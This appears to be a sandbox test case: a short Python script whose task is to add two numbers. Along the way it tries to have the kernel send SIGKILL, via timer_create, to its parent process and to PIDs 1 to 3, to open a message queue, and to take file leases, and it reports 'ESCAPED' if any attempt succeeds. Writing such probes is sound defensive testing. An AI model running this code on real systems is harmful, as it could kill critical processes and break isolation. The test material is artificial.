# attacks: has the kernel send signals to others: timers, message queues, leases, locks
# task: add
# expect: correct
# danger: yes
import ctypes
import fcntl
import os

libc = ctypes.CDLL(None, use_errno=True)
machine = os.uname().machine
TIMER_CREATE, MQ_OPEN = {"x86_64": (222, 240), "aarch64": (107, 180)}[machine]
seen = []
event = (ctypes.c_uint32 * 16)()
timer = ctypes.c_int()
for victim in [os.getppid(), 1, 2, 3]:
    if victim == os.getpid():
        continue
    event[2], event[3], event[4] = 9, 4, victim  # SIGKILL, SIGEV_THREAD_ID
    if libc.syscall(TIMER_CREATE, 1, ctypes.byref(event), ctypes.byref(timer)) == 0:
        seen.append(("timer_create", victim))
if libc.syscall(MQ_OPEN, b"@MARK@", os.O_RDWR | os.O_CREAT, 0o600, None) >= 0:
    seen.append("mq_open")
for path in ["/dev/null", os.__file__]:
    file = os.open(path, os.O_RDONLY)
    try:
        fcntl.fcntl(file, 1024, fcntl.F_WRLCK)
        seen.append("lease")
    except OSError:
        pass
    os.close(file)


def f(a, b):
    return a + b if not seen else "ESCAPED: %r" % seen
